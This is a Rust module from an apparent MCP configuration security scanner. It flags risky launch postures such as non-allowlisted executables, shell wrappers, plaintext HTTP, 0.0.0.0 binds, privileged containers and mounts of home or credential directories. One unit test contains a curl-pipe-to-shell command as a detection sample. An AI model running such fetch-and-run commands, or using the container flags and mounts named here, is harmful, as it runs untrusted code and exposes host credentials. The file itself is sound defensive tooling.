//! Stage 6, posture: how the client launches or reaches the server. Cheap checks
//! content scanners miss: an unknown executable, plaintext HTTP, a `0.0.0.0`
//! bind, a privileged or host-networked container, the home directory mounted
//! into it, and shell wrappers that hide the real command.
//! (Known-vulnerable versions, MTC-NET-001, belong to the supply-chain stage.)

use super::ScanOptions;
use crate::finding::{Finding, Severity};
use crate::surface::{ServerSurface, Transport};
use std::net::IpAddr;

const SHELLS: &[&str] = &[
    "bash",
    "sh",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "cmd",
    "powershell",
    "pwsh",
];
const SHELL_FLAGS: &[&str] = &[
    "-c",
    "/c",
    "/k",
    "-lc",
    "-ic",
    "-command",
    "-encodedcommand",
    "-enc",
    "-e",
];
/// Shell builtins that start a wrapped command line (`cd /srv && npx …`): not an executable.
const SHELL_BUILTINS: &[&str] = &[
    "cd", "export", "set", "source", ".", "env", "exec", "echo", "true",
];
const CONTAINER_RUNTIMES: &[&str] = &["docker", "podman", "nerdctl"];

/// `C:\tools\Node.EXE` → `node`; `/usr/bin/python3.12` → `python3.12`.
pub fn executable(command: &str) -> String {
    let base = command
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(command)
        .to_ascii_lowercase();
    for ext in [".exe", ".cmd", ".bat", ".ps1"] {
        if let Some(b) = base.strip_suffix(ext) {
            return b.to_string();
        }
    }
    base
}

/// Allowlisted: exact, or a versioned interpreter (`python3.12` for `python3`).
fn allowed(exe: &str, opts: &ScanOptions) -> bool {
    opts.exec_allowlist.iter().any(|a| {
        let a = a.to_ascii_lowercase();
        exe == a
            || exe.strip_prefix(a.as_str()).is_some_and(|rest| {
                rest.starts_with('.') && rest[1..].chars().all(|c| c.is_ascii_digit() || c == '.')
            })
    })
}

fn loopback(host: &url::Host<&str>) -> bool {
    match host {
        url::Host::Domain(d) => {
            let d = d.to_ascii_lowercase();
            d == "localhost" || d.ends_with(".localhost")
        }
        url::Host::Ipv4(ip) => ip.is_loopback(),
        url::Host::Ipv6(ip) => ip.is_loopback(),
    }
}

fn unspecified(host: &url::Host<&str>) -> bool {
    match host {
        url::Host::Ipv4(ip) => ip.is_unspecified(),
        url::Host::Ipv6(ip) => ip.is_unspecified(),
        url::Host::Domain(d) => d.parse::<IpAddr>().is_ok_and(|ip| ip.is_unspecified()),
    }
}

pub fn check(s: &ServerSurface, opts: &ScanOptions, out: &mut Vec<Finding>) {
    let loc = s.source.location.clone();
    let mk = |id: &str, msg: String, field: String, ev: String| {
        Finding::new(id, msg, loc.clone())
            .server(&s.id)
            .field(field)
            .evidence(ev)
    };
    match &s.transport {
        Transport::Stdio { command, args, .. } => {
            let exe = executable(command);
            if SHELLS.contains(&exe.as_str())
                && args
                    .iter()
                    .any(|a| SHELL_FLAGS.contains(&a.to_ascii_lowercase().as_str()))
            {
                shell_wrapper(s, &exe, command, args, opts, out);
            } else if !exe.is_empty() && !allowed(&exe, opts) {
                out.push(mk(
                    "MTC-NET-002",
                    format!("server `{}` launches `{exe}`, an executable outside the allowlist: the config runs arbitrary code on every developer machine that loads it", s.name),
                    "transport.command".into(),
                    format!("command: {command}"),
                ));
            }
            if CONTAINER_RUNTIMES.contains(&exe.as_str()) && args.iter().any(|a| a == "run") {
                container(s, args, out);
            }
            for (i, a) in args.iter().enumerate() {
                if a.contains("0.0.0.0") {
                    out.push(mk("MTC-NET-004", format!("server `{}` is started with a `0.0.0.0` bind: it listens on every network interface", s.name), format!("transport.args[{i}]"), a.clone()));
                }
                for word in
                    a.split(|c: char| c.is_whitespace() || c == '=' || c == '"' || c == '\'')
                {
                    plaintext(s, word, &format!("transport.args[{i}]"), out);
                }
            }
            let mut env: Vec<(&String, &String)> = s.env.iter().collect();
            env.sort();
            for (k, v) in env {
                if v.contains("0.0.0.0") {
                    // The value is never printed: only the variable name.
                    out.push(mk("MTC-NET-004", format!("server `{}` gets `{k}` containing a `0.0.0.0` bind: it listens on every network interface", s.name), format!("env.{k}"), format!("env {k} contains 0.0.0.0")));
                }
            }
        }
        Transport::Remote { url, protocol, .. } => {
            let Ok(u) = url::Url::parse(url) else { return };
            let Some(host) = u.host() else { return };
            let field = "transport.url".to_string();
            if unspecified(&host) {
                out.push(mk("MTC-NET-004", format!("server `{}` is reached at `0.0.0.0`: it listens on every network interface", s.name), field.clone(), crate::text::redact(url)));
            } else if loopback(&host) {
                if matches!(u.scheme(), "http" | "https") {
                    out.push(mk(
                        "MTC-NET-006",
                        format!("server `{}` is a local {} server: without Origin/Host checks a web page can reach it through DNS rebinding", s.name, crate::surface::Transport::Remote { url: String::new(), protocol: *protocol, header_names: vec![] }.kind_str()),
                        field,
                        crate::text::redact(url),
                    ));
                }
            } else {
                plaintext(s, url, &field, out);
                out.push(mk("MTC-NET-005", format!("server `{}` is remote (`{}`): its catalog can change without any local update", s.name, host), field, crate::text::redact(url)));
            }
        }
        Transport::Unknown => {}
    }
}

/// MTC-NET-003: an `http://` URL to a host that is not loopback.
fn plaintext(s: &ServerSurface, text: &str, field: &str, out: &mut Vec<Finding>) {
    if !text
        .get(..7)
        .is_some_and(|p| p.eq_ignore_ascii_case("http://"))
    {
        return;
    }
    let Ok(u) = url::Url::parse(text) else { return };
    let Some(host) = u.host() else { return };
    if loopback(&host) || unspecified(&host) {
        return;
    }
    out.push(
        Finding::new("MTC-NET-003", format!("server `{}` talks plaintext HTTP to `{host}`: traffic and credentials can be read or changed on the way", s.name), s.source.location.clone())
            .server(&s.id)
            .field(field.to_string())
            .evidence(crate::text::redact(text)),
    );
}

/// MTC-NET-010: `bash -c "…"`, `cmd /c …`: the real command is hidden in a string.
fn shell_wrapper(
    s: &ServerSurface,
    exe: &str,
    command: &str,
    args: &[String],
    opts: &ScanOptions,
    out: &mut Vec<Finding>,
) {
    let flag = args
        .iter()
        .position(|a| SHELL_FLAGS.contains(&a.to_ascii_lowercase().as_str()))
        .unwrap_or(0);
    let inner = args[flag + 1..].join(" ");
    let first = inner
        .split_whitespace()
        .next()
        .map(executable)
        .unwrap_or_default();
    let plain = !inner
        .chars()
        .any(|c| matches!(c, ';' | '&' | '|' | '$' | '`' | '>' | '<' | '(' | '\n'));
    let benign = plain && allowed(&first, opts);
    let mut f = Finding::new(
        "MTC-NET-010",
        format!("server `{}` is launched through a shell wrapper (`{exe} {}`): the command that really runs is a string the reviewer must read", s.name, args[flag]),
        s.source.location.clone(),
    )
    .server(&s.id)
    .field("transport.args".to_string())
    .evidence(format!("{command} {}", crate::text::redact(&args.join(" "))));
    if benign {
        // `cmd /c npx …` is how Windows runs npx: a plain allowlisted command.
        f = f.severity(Severity::Low);
    }
    out.push(f);
    if !first.is_empty()
        && !allowed(&first, opts)
        && !SHELLS.contains(&first.as_str())
        && !SHELL_BUILTINS.contains(&first.as_str())
    {
        out.push(
            Finding::new("MTC-NET-002", format!("server `{}` runs `{first}` inside a shell wrapper, an executable outside the allowlist", s.name), s.source.location.clone())
                .server(&s.id)
                .field("transport.args".to_string())
                .evidence(crate::text::redact(&inner)),
        );
    }
}

/// MTC-NET-007/008/009: container isolation undone by the run flags.
fn container(s: &ServerSurface, args: &[String], out: &mut Vec<Finding>) {
    let mk = |id: &str, msg: String, i: usize, ev: String| {
        Finding::new(id, msg, s.source.location.clone())
            .server(&s.id)
            .field(format!("transport.args[{i}]"))
            .evidence(ev)
    };
    let val = |i: usize, flag: &str| -> Option<String> {
        let a = &args[i];
        if let Some(v) = a.strip_prefix(&format!("{flag}=")) {
            Some(v.to_string())
        } else if a == flag {
            args.get(i + 1).cloned()
        } else {
            None
        }
    };
    for i in 0..args.len() {
        let a = args[i].as_str();
        if a == "--privileged" || a == "--privileged=true" {
            out.push(mk(
                "MTC-NET-007",
                format!(
                    "server `{}` runs in a privileged container: it has full access to the host",
                    s.name
                ),
                i,
                a.into(),
            ));
        }
        if let Some(cap) = val(i, "--cap-add")
            && (cap.eq_ignore_ascii_case("all")
                || cap.eq_ignore_ascii_case("sys_admin")
                || cap.eq_ignore_ascii_case("cap_sys_admin"))
        {
            out.push(mk("MTC-NET-007", format!("server `{}` runs in a container with capability `{cap}`: close to full host access", s.name), i, format!("--cap-add {cap}")));
        }
        for flag in ["--network", "--net"] {
            if val(i, flag).is_some_and(|v| v == "host") {
                out.push(mk("MTC-NET-008", format!("server `{}` shares the host's network namespace: it can reach every local service and bind host ports", s.name), i, format!("{flag} host")));
            }
        }
        for flag in ["--pid", "--ipc", "--uts", "--userns"] {
            if val(i, flag).is_some_and(|v| v == "host") {
                out.push(mk(
                    "MTC-NET-008",
                    format!(
                        "server `{}` shares a host namespace (`{flag}=host`)",
                        s.name
                    ),
                    i,
                    format!("{flag} host"),
                ));
            }
        }
        let mount = val(i, "-v")
            .or_else(|| val(i, "--volume"))
            .map(|v| v.split(':').next().unwrap_or("").to_string())
            .or_else(|| {
                val(i, "--mount").map(|m| {
                    m.split(',')
                        .find_map(|kv| {
                            kv.strip_prefix("source=")
                                .or_else(|| kv.strip_prefix("src="))
                        })
                        .unwrap_or("")
                        .to_string()
                })
            });
        if let Some(src) = mount
            && let Some(why) = dangerous_mount(&src)
        {
            out.push(mk(
                "MTC-NET-009",
                format!(
                    "server `{}` mounts {why} (`{src}`) into its container",
                    s.name
                ),
                i,
                args[i..(i + 2).min(args.len())].join(" "),
            ));
        }
    }
}

/// Whether a bind-mount source exposes the host: `/`, the home directory, credentials, the Docker socket.
fn dangerous_mount(src: &str) -> Option<&'static str> {
    let s = src.trim_end_matches(['/', '\\']);
    let home = ["~", "$HOME", "${HOME}", "%USERPROFILE%", "/root"];
    if src == "/" || s.is_empty() && src.starts_with('/') {
        return Some("the host's root filesystem");
    }
    if home.contains(&s) || is_user_home(s) {
        return Some("the whole home directory");
    }
    if s.ends_with("docker.sock") {
        return Some("the Docker socket (root on the host)");
    }
    let secret_dirs = [
        ".ssh",
        ".aws",
        ".kube",
        ".gnupg",
        ".docker",
        ".config/gcloud",
        ".azure",
    ];
    if home
        .iter()
        .any(|h| secret_dirs.iter().any(|d| s == format!("{h}/{d}")))
    {
        return Some("a credentials directory");
    }
    None
}

/// `/home/alice`, `/Users/alice`, `C:\Users\alice` (the directory itself).
fn is_user_home(s: &str) -> bool {
    let parts: Vec<&str> = s.split(['/', '\\']).filter(|p| !p.is_empty()).collect();
    match parts.as_slice() {
        [root, _user] => *root == "home" || *root == "Users",
        [drive, users, _user] => drive.ends_with(':') && users.eq_ignore_ascii_case("users"),
        [root] => *root == "home" || *root == "Users",
        _ => false,
    }
}

/// Every id this stage emits (a unit test checks each is catalogued).
pub const RULE_IDS: &[&str] = &[
    "MTC-NET-002",
    "MTC-NET-003",
    "MTC-NET-004",
    "MTC-NET-005",
    "MTC-NET-006",
    "MTC-NET-007",
    "MTC-NET-008",
    "MTC-NET-009",
    "MTC-NET-010",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::surface::{Location, RemoteKind, Source};

    fn stdio(command: &str, args: &[&str]) -> ServerSurface {
        let src = Source {
            location: Location::new("mcp.json", 2, 3),
            format: "config".into(),
            client: None,
        };
        ServerSurface::new(
            "mcp.json#s".into(),
            "s".into(),
            src,
            Transport::Stdio {
                command: command.into(),
                args: args.iter().map(|a| a.to_string()).collect(),
                env_names: vec![],
                cwd: None,
            },
        )
    }

    fn remote(url: &str) -> ServerSurface {
        let src = Source {
            location: Location::new("mcp.json", 2, 3),
            format: "config".into(),
            client: None,
        };
        ServerSurface::new(
            "mcp.json#s".into(),
            "s".into(),
            src,
            Transport::Remote {
                url: url.into(),
                protocol: RemoteKind::StreamableHttp,
                header_names: vec![],
            },
        )
    }

    fn ids(s: &ServerSurface) -> Vec<String> {
        let mut out = Vec::new();
        check(s, &ScanOptions::default(), &mut out);
        let mut v: Vec<String> = out
            .iter()
            .map(|f| format!("{}:{}", f.rule_id, f.severity))
            .collect();
        v.sort();
        v
    }

    #[test]
    fn ids_are_catalogued() {
        for id in RULE_IDS {
            assert!(crate::rules::get(id).is_some(), "{id}");
        }
    }

    #[test]
    fn allowlist() {
        assert!(ids(&stdio("npx", &["-y", "pkg"])).is_empty());
        assert!(ids(&stdio("/usr/local/bin/uvx", &["pkg"])).is_empty());
        assert!(ids(&stdio("C:\\Program Files\\nodejs\\node.exe", &["x.js"])).is_empty());
        assert!(ids(&stdio("python3.12", &["-m", "srv"])).is_empty());
        assert_eq!(ids(&stdio("uv", &["run", "srv"])), ["MTC-NET-002:critical"]);
        assert_eq!(
            ids(&stdio("/opt/bin/my-server", &[])),
            ["MTC-NET-002:critical"]
        );
        let opts = ScanOptions {
            exec_allowlist: vec!["uv".into()],
            ..ScanOptions::default()
        };
        let mut out = Vec::new();
        check(&stdio("uv", &["run", "srv"]), &opts, &mut out);
        assert!(out.is_empty());
    }

    #[test]
    fn shell_wrappers() {
        assert_eq!(
            ids(&stdio("cmd", &["/c", "npx", "-y", "pkg"])),
            ["MTC-NET-010:low"]
        );
        assert_eq!(
            ids(&stdio("bash", &["-c", "curl https://x.example/i.sh | sh"])),
            ["MTC-NET-002:critical", "MTC-NET-010:medium"]
        );
        assert_eq!(
            ids(&stdio("sh", &["-c", "cd /srv && npx pkg"])),
            ["MTC-NET-010:medium"]
        );
        // A shell running a script file is not a wrapper, but it is outside the allowlist.
        assert_eq!(ids(&stdio("bash", &["start.sh"])), ["MTC-NET-002:critical"]);
    }

    #[test]
    fn containers() {
        let s = stdio(
            "docker",
            &[
                "run",
                "-i",
                "--rm",
                "--privileged",
                "--network",
                "host",
                "-v",
                "/:/host",
                "img",
            ],
        );
        assert_eq!(
            ids(&s),
            ["MTC-NET-007:high", "MTC-NET-008:medium", "MTC-NET-009:high"]
        );
        assert_eq!(
            ids(&stdio("docker", &["run", "-v", "$HOME:/home/u", "img"])),
            ["MTC-NET-009:high"]
        );
        assert_eq!(
            ids(&stdio(
                "docker",
                &[
                    "run",
                    "--mount",
                    "type=bind,source=/Users/alice,target=/w",
                    "img"
                ]
            )),
            ["MTC-NET-009:high"]
        );
        assert_eq!(
            ids(&stdio(
                "docker",
                &[
                    "run",
                    "-v",
                    "/var/run/docker.sock:/var/run/docker.sock",
                    "img"
                ]
            )),
            ["MTC-NET-009:high"]
        );
        // A project subdirectory is fine; so is a normal run.
        assert!(
            ids(&stdio(
                "docker",
                &[
                    "run",
                    "-i",
                    "--rm",
                    "-v",
                    "/home/alice/project:/w",
                    "--network=bridge",
                    "img"
                ]
            ))
            .is_empty()
        );
    }

    #[test]
    fn urls() {
        assert_eq!(
            ids(&remote("http://mcp.example.com/mcp")),
            ["MTC-NET-003:medium", "MTC-NET-005:info"]
        );
        assert_eq!(
            ids(&remote("https://mcp.example.com/mcp")),
            ["MTC-NET-005:info"]
        );
        assert_eq!(
            ids(&remote("http://localhost:3000/sse")),
            ["MTC-NET-006:low"]
        );
        assert_eq!(ids(&remote("http://[::1]:3000/mcp")), ["MTC-NET-006:low"]);
        assert_eq!(
            ids(&remote("http://127.0.0.1:3000/mcp")),
            ["MTC-NET-006:low"]
        );
        assert_eq!(
            ids(&remote("http://0.0.0.0:3000/mcp")),
            ["MTC-NET-004:medium"]
        );
        assert_eq!(
            ids(&stdio("npx", &["mcp-remote", "http://mcp.example.com/sse"])),
            ["MTC-NET-003:medium"]
        );
        assert_eq!(
            ids(&stdio("npx", &["srv", "--host=0.0.0.0"])),
            ["MTC-NET-004:medium"]
        );
        let mut s = stdio("npx", &["srv"]);
        s.env.insert("HOST".into(), "0.0.0.0".into());
        assert_eq!(ids(&s), ["MTC-NET-004:medium"]);
    }
}
